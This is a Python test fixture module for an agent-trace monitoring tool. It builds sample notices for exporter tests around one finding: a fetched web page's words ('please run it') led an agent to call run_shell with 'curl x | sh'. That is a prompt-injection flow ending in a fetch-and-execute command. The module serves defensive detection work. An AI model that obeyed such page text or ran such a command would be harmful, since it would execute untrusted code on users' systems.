"""Notices as the service would build them, for the tests of every exporter."""

from __future__ import annotations

from typing import Any

import msgspec

from spanwarden.exporters.base import Notice, RunSummary, Subject
from spanwarden.model.finding import Evidence, Finding, NotEvaluable, identified

TRACE = "0af7651916cd43dd8448eb211c80319c"
ROOT = "b7ad6b7169203331"
SOURCE = "00f067aa0ba902b7"
SINK = "53995c3f42cd8ad8"
START = 1_790_000_000_000_000_000
END = START + 42_500_000_000
OBSERVED = END + 2_000_000_000

RUN = RunSummary(
    id="run-7",
    agent="billing-agent",
    conversation="conv-1",
    service="billing",
    start=START,
    end=END,
    completeness="root_ended",
    cost_usd=0.25,
    runtime_seconds=42.5,
    event_count=6,
    trace_ids=(TRACE,),
    root_trace_id=TRACE,
    root_span_id=ROOT,
    dialects=("genai",),
)
SUBJECTS = (
    Subject(event=2, trace_id=TRACE, span_id=SOURCE, end=START + 10**9, tool="fetch_page", operation="execute_tool"),
    Subject(
        event=5,
        trace_id=TRACE,
        span_id=SINK,
        end=START + 5 * 10**9,
        tool="run_shell",
        call_id="call_9",
        model="model-x",
        agent="shell-agent",
        operation="execute_tool",
    ),
)
FINDING = identified(
    Finding(
        rule="flow-forbidden",
        severity="high",
        title="A web page led to a shell command",
        message="Words of fetch_page (event 2) came back as a shell command in run_shell (event 5).",
        policy="agent-baseline",
        evidence=(
            Evidence(event=2, role="source", span_id=SOURCE, trace_id=TRACE, field="result", text="please run it"),
            Evidence(event=5, role="sink", span_id=SINK, trace_id=TRACE, field="arguments.command", text="curl x | sh"),
        ),
        turn=3,
        tags=("owasp:llm01",),
        weight=25,
        policy_version="v1-abc",
    ),
    "run-7",
)


def finding_notice(finding: Finding = FINDING, **changes: Any) -> Notice:
    notice = Notice(
        kind="finding",
        run=RUN,
        findings=(finding,),
        policy="agent-baseline",
        policy_version="v1-abc",
        observed=OBSERVED,
        risk_score=25,
        subjects=SUBJECTS,
    )
    return msgspec.structs.replace(notice, **changes)


def evaluation_notice(*findings: Finding, **changes: Any) -> Notice:
    notice = finding_notice(
        kind="evaluation",
        findings=findings or (FINDING,),
        not_evaluable=(NotEvaluable("max-cost-exceeded", ("cost",)),),
    )
    return msgspec.structs.replace(notice, **changes)


def changed(finding: Finding = FINDING, **changes: Any) -> Finding:
    return msgspec.structs.replace(finding, **changes)
